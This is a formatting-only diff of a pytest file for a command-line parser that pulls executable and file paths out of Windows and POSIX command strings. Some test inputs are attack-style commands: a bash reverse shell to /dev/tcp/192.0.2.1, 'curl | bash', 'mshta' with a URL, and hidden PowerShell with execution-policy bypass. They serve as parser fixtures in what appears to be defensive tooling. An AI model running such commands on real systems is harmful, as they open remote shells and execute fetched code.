@@ -12,28 +12,34 @@ from commodore.commandline import argv, posix, split_posix, split_windows, windo
 S32 = "C:\\Windows\\System32\\"
 
 
-@pytest.mark.parametrize(("line", "files"), [
-    ('"C:\\Program Files\\A B\\x.exe" -k "a b"', ["C:\\Program Files\\A B\\x.exe"]),
-    ("C:\\Program Files\\A B\\x.exe -k", ["C:\\Program Files\\A B\\x.exe"]),
-    ("\\??\\C:\\Windows\\system32\\drivers\\x.sys", ["C:\\Windows\\system32\\drivers\\x.sys"]),
-    ("\\SystemRoot\\System32\\drivers\\x.sys", [S32 + "drivers\\x.sys"]),
-    ("System32\\drivers\\x.sys", [S32 + "drivers\\x.sys"]),
-    ("%SystemRoot%\\system32\\svchost.exe -k netsvcs", ["C:\\Windows\\system32\\svchost.exe"]),
-    ("%ProgramData%\\u.exe", ["C:\\ProgramData\\u.exe"]),
-    ('cmd /c "%windir%\\System32\\rundll32.exe C:\\x\\y.dll,Go"', ["cmd", S32 + "rundll32.exe", "C:\\x\\y.dll"]),
-    ("cmd.exe /q /c C:\\a.bat & C:\\b.bat", ["cmd.exe", "C:\\a.bat"]),
-    ('cmd /c start "" /b C:\\Users\\Public\\e.exe -x', ["cmd", "C:\\Users\\Public\\e.exe"]),
-    ('cmd /c "C:\\a b\\c.exe"', ["cmd", "C:\\a b\\c.exe"]),
-    ('rundll32.exe "C:\\a b\\c.dll",Start x', ["rundll32.exe", "C:\\a b\\c.dll"]),
-    ("rundll32 javascript:alert(1)", ["rundll32"]),
-    ("regsvr32 /s /u C:\\x.ocx", ["regsvr32", "C:\\x.ocx"]),
-    ("powershell -nop -w hidden -ep bypass -File C:\\a.ps1 x", ["powershell", "C:\\a.ps1"]),
-    ("powershell -c \"& 'C:\\b.ps1'\"", ["powershell", "C:\\b.ps1"]),
-    ("wscript //B C:\\x\\y.vbs", ["wscript", "C:\\x\\y.vbs"]),
-    ("mshta http://host/x", ["mshta"]),
-    ("javaw -jar C:\\x.jar", ["javaw", "C:\\x.jar"]),
-    ("", []), ("   ", []), ('"', []), ('"C:\\unclosed', ["C:\\unclosed"]),
-])
+@pytest.mark.parametrize(
+    ("line", "files"),
+    [
+        ('"C:\\Program Files\\A B\\x.exe" -k "a b"', ["C:\\Program Files\\A B\\x.exe"]),
+        ("C:\\Program Files\\A B\\x.exe -k", ["C:\\Program Files\\A B\\x.exe"]),
+        ("\\??\\C:\\Windows\\system32\\drivers\\x.sys", ["C:\\Windows\\system32\\drivers\\x.sys"]),
+        ("\\SystemRoot\\System32\\drivers\\x.sys", [S32 + "drivers\\x.sys"]),
+        ("System32\\drivers\\x.sys", [S32 + "drivers\\x.sys"]),
+        ("%SystemRoot%\\system32\\svchost.exe -k netsvcs", ["C:\\Windows\\system32\\svchost.exe"]),
+        ("%ProgramData%\\u.exe", ["C:\\ProgramData\\u.exe"]),
+        ('cmd /c "%windir%\\System32\\rundll32.exe C:\\x\\y.dll,Go"', ["cmd", S32 + "rundll32.exe", "C:\\x\\y.dll"]),
+        ("cmd.exe /q /c C:\\a.bat & C:\\b.bat", ["cmd.exe", "C:\\a.bat"]),
+        ('cmd /c start "" /b C:\\Users\\Public\\e.exe -x', ["cmd", "C:\\Users\\Public\\e.exe"]),
+        ('cmd /c "C:\\a b\\c.exe"', ["cmd", "C:\\a b\\c.exe"]),
+        ('rundll32.exe "C:\\a b\\c.dll",Start x', ["rundll32.exe", "C:\\a b\\c.dll"]),
+        ("rundll32 javascript:alert(1)", ["rundll32"]),
+        ("regsvr32 /s /u C:\\x.ocx", ["regsvr32", "C:\\x.ocx"]),
+        ("powershell -nop -w hidden -ep bypass -File C:\\a.ps1 x", ["powershell", "C:\\a.ps1"]),
+        ("powershell -c \"& 'C:\\b.ps1'\"", ["powershell", "C:\\b.ps1"]),
+        ("wscript //B C:\\x\\y.vbs", ["wscript", "C:\\x\\y.vbs"]),
+        ("mshta http://host/x", ["mshta"]),
+        ("javaw -jar C:\\x.jar", ["javaw", "C:\\x.jar"]),
+        ("", []),
+        ("   ", []),
+        ('"', []),
+        ('"C:\\unclosed', ["C:\\unclosed"]),
+    ],
+)
 def test_windows(line, files):
     assert list(windows(line).files) == files
 
@@ -48,10 +54,18 @@ def test_other_variables_and_another_system_root():
     assert windows("%NoSuch%\\x.exe").executable == "%NoSuch%\\x.exe"
 
 
-@pytest.mark.parametrize(("line", "words"), [
-    ('a "b c" d', ["a", "b c", "d"]), ('"a\\\\b" c', ["a\\\\b", "c"]), ('a\\\\\\"b c', ['a\\"b', "c"]), ('a\\\\"b c" d', ["a\\b c", "d"]),
-    ('"" x', ["", "x"]), ("a\\b c", ["a\\b", "c"]), ('"a""b"', ['a"b']),
-])
+@pytest.mark.parametrize(
+    ("line", "words"),
+    [
+        ('a "b c" d', ["a", "b c", "d"]),
+        ('"a\\\\b" c', ["a\\\\b", "c"]),
+        ('a\\\\\\"b c', ['a\\"b', "c"]),
+        ('a\\\\"b c" d', ["a\\b c", "d"]),
+        ('"" x', ["", "x"]),
+        ("a\\b c", ["a\\b", "c"]),
+        ('"a""b"', ['a"b']),
+    ],
+)
 def test_arguments_by_the_documented_rules(line, words):
     """The examples of `Parsing C command-line arguments` (Microsoft) and of CommandLineToArgvW."""
     assert list(split_windows(line)) == words
@@ -67,21 +81,35 @@ def test_windows_quoting_comes_back_as_it_was():
         assert list(split_windows(list2cmdline(words))) == words
 
 
-@pytest.mark.parametrize(("line", "files"), [
-    ("/bin/sh -c '/usr/bin/foo --x'", ["/bin/sh", "/usr/bin/foo"]),
-    ("cd / && run-parts --report /etc/cron.hourly", ["run-parts", "/etc/cron.hourly"]),
-    ("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", ["run-parts", "/etc/cron.daily"]),
-    ("env -i X=1 nice -n 5 /opt/x y", ["env", "nice", "/opt/x"]),
-    ("/usr/bin/python3 -u /tmp/x.py a", ["/usr/bin/python3", "/tmp/x.py"]),
-    ("python3 -c 'print(1)' /tmp/no.py", ["python3"]),
-    ("A=b /bin/bash -i >& /dev/tcp/192.0.2.1/5 0>&1", ["/bin/bash"]),
-    ("~/.x/y", ["/home/u/.x/y"]), ("$HOME/a ${HOME}/b", ["/home/u/a"]),
-    ("sudo -u bob -- /x/y", ["sudo", "/x/y"]), ("timeout 5 /a/b", ["timeout", "/a/b"]), ("su - bob -c '/a/b c'", ["su", "/a/b"]),
-    ("[ -x /etc/a ] && if [ ! -d /run ]; then /usr/lib/x; fi", ["/usr/lib/x"]),
-    (">/dev/null 2>&1 /x/a", ["/x/a"]), ("curl -s http://h/x | bash", ["curl"]), ("sleep 30; /tmp/.x # c\n/tmp/y", ["/tmp/.x", "/tmp/y"]),
-    ("/a/b\\ c 'd e'", ["/a/b c"]), ('"unclosed', ["unclosed"]), ("", []), (";;&&", []), ("A=1", []),
-    ("bash /tmp/s.sh", ["bash", "/tmp/s.sh"]), (". /etc/x", [".", "/etc/x"]), ("flock -n /run/l -c '/a/b'", ["flock", "/a/b"]),
-])
+@pytest.mark.parametrize(
+    ("line", "files"),
+    [
+        ("/bin/sh -c '/usr/bin/foo --x'", ["/bin/sh", "/usr/bin/foo"]),
+        ("cd / && run-parts --report /etc/cron.hourly", ["run-parts", "/etc/cron.hourly"]),
+        ("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", ["run-parts", "/etc/cron.daily"]),
+        ("env -i X=1 nice -n 5 /opt/x y", ["env", "nice", "/opt/x"]),
+        ("/usr/bin/python3 -u /tmp/x.py a", ["/usr/bin/python3", "/tmp/x.py"]),
+        ("python3 -c 'print(1)' /tmp/no.py", ["python3"]),
+        ("A=b /bin/bash -i >& /dev/tcp/192.0.2.1/5 0>&1", ["/bin/bash"]),
+        ("~/.x/y", ["/home/u/.x/y"]),
+        ("$HOME/a ${HOME}/b", ["/home/u/a"]),
+        ("sudo -u bob -- /x/y", ["sudo", "/x/y"]),
+        ("timeout 5 /a/b", ["timeout", "/a/b"]),
+        ("su - bob -c '/a/b c'", ["su", "/a/b"]),
+        ("[ -x /etc/a ] && if [ ! -d /run ]; then /usr/lib/x; fi", ["/usr/lib/x"]),
+        (">/dev/null 2>&1 /x/a", ["/x/a"]),
+        ("curl -s http://h/x | bash", ["curl"]),
+        ("sleep 30; /tmp/.x # c\n/tmp/y", ["/tmp/.x", "/tmp/y"]),
+        ("/a/b\\ c 'd e'", ["/a/b c"]),
+        ('"unclosed', ["unclosed"]),
+        ("", []),
+        (";;&&", []),
+        ("A=1", []),
+        ("bash /tmp/s.sh", ["bash", "/tmp/s.sh"]),
+        (". /etc/x", [".", "/etc/x"]),
+        ("flock -n /run/l -c '/a/b'", ["flock", "/a/b"]),
+    ],
+)
 def test_posix(line, files):
     assert list(posix(line, home="/home/u").files) == files
 
@@ -96,7 +124,17 @@ def test_words_are_those_of_a_shell():
 
 
 def test_nothing_is_endless():
-    for line in ("sh -c " * 3000, '"' * 40_000, "\\" * 40_000, "(" * 40_000, "env " * 9000, "cmd /c " * 6000, "#\n" * 20_000, "%a% " * 10_000, "a;" * 20_000):
+    for line in (
+        "sh -c " * 3000,
+        '"' * 40_000,
+        "\\" * 40_000,
+        "(" * 40_000,
+        "env " * 9000,
+        "cmd /c " * 6000,
+        "#\n" * 20_000,
+        "%a% " * 10_000,
+        "a;" * 20_000,
+    ):
         posix(line, home="/root")
         windows(line)
     argv(["env"] * 20_000)
@@ -107,5 +145,11 @@ def test_random_text_raises_nothing():
     alphabet = "ab\\\"'%/ -,;&|<>()$~#\0\n\udcff=:.cmdexrunl32"
     for _ in range(3000):
         line = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 60)))
-        for found in (posix(line, home="/h"), windows(line), windows("cmd /c " + line), windows("rundll32 " + line), posix("sh -c " + line)):
+        for found in (
+            posix(line, home="/h"),
+            windows(line),
+            windows("cmd /c " + line),
+            windows("rundll32 " + line),
+            posix("sh -c " + line),
+        ):
             assert all(isinstance(f, str) for f in found.files)
